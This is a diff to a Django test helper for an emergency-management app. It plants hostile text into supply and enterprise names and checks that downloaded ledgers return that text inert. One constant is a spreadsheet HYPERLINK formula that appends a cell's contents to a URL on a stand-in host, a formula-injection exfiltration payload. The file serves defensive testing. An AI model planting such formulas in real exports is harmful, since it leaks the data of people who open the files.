@@ -3,7 +3,15 @@
 official of 杨浦区 (who downloads the ledger) and returns the strings that must come back as
 text. Free-text fields only: phones, numbers and choices are checked by the services."""
 
+from datetime import date
+
+from django.urls import reverse
+from django.utils import timezone
+
+from anjian.emergency.models import Supply
 from anjian.emergency.tests import factories_resources as make
+from anjian.emergency.tests.factories_plans import in_force
+from anjian.enterprises.services import enterprise_update
 from testsupport import world
 
 FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
@@ -76,6 +84,24 @@ def plant_movements() -> list[str]:
     line = make.supply(store, official(), name=FORMULA)
     services.stock_receive(official(), supply_id=line.pk, quantity=5, reason=PLUS)
     return [AT, FORMULA, PLUS]
+
+
+def ledger_url(name: str) -> str:
+    """The URL of the ledger ``name`` (warehouse_ledger, supply_ledger) of what
+    ``plant_movements`` moved."""
+    line = Supply.objects.get(name=FORMULA, warehouse__name=AT)
+    return reverse(name, args=[line.warehouse_id if "warehouse" in name else line.pk])
+
+
+def plant_unit() -> list[str]:
+    """殷行化工 renamed, with a comprehensive plan in force since last year (so it owes
+    this year's drill: a row of 演练完成情况)."""
+    in_force(on=date(timezone.localdate().year - 1, 3, 2))
+    unit = world.enterprise("yinhang_chemical")  # by name: renamed once the plan is made
+    enterprise_update(
+        by=official(), enterprise_id=unit.pk, data={"name": FORMULA}, expected_version=unit.version
+    )
+    return [FORMULA]
 
 
 # An uploaded row, one hostile string in each importable cell (every cell wrong somewhere,
